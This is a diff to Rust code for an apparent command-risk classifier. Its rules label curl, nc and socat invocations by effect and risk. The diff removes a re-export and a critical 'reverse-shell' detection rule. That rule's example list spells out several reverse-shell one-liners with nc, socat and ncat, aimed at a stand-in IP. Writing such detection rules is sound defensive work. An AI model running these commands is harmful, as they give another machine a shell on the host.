@@ -7,7 +7,6 @@ mod transfer;
 mod web;
 
 pub(crate) use connections::tls_client;
-pub use connections::{from_connection, to_connection};
 use signoff_model::{EffectKind, Reversible, Risk, Span};
 
 use super::{
@@ -29,9 +28,6 @@ rules! {
         .examples(&["curl -d '{}' http://localhost:3000/api"], &["curl http://localhost:3000/api", "curl -d '{}' https://example.com/api"]);
     OPTION_FILE = Rule::new("option-file", EffectKind::Opaque, Risk::Medium, "takes its targets and options from a file that cannot be read here: {}", "从无法读取的文件获取目标和选项：{}")
         .examples(&["curl -K /tmp/curlrc"], &["curl -k https://example.com"]);
-    REVERSE_SHELL = Rule::new("reverse-shell", EffectKind::SecretSend, Risk::Critical, "gives a shell on this machine to another one: {}", "把本机的 shell 交给另一台机器：{}")
-        .absurd().reversible(Reversible::No).priority(Priority::P0)
-        .examples(&["nc -e /bin/sh 203.0.113.7 4444", "socat TCP:203.0.113.7:4444 EXEC:/bin/bash", "ncat --sh-exec bash 203.0.113.7 80", "nc -lvp 4444 -e /bin/bash"], &["nc -zv localhost 80", "nc -h"]);
     LISTEN = Rule::new("open-port", EffectKind::NetworkRead, Risk::Medium, "lets others connect to this machine: {}", "让其他机器连接到本机：{}")
         .examples(&["nc -l 8080", "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80"], &["nc -z localhost 8080"]);
     REMOTE_COMMAND = Rule::new("remote-command", EffectKind::NetworkWrite, Risk::Medium, "runs something on another machine: {}", "在另一台机器上运行：{}")
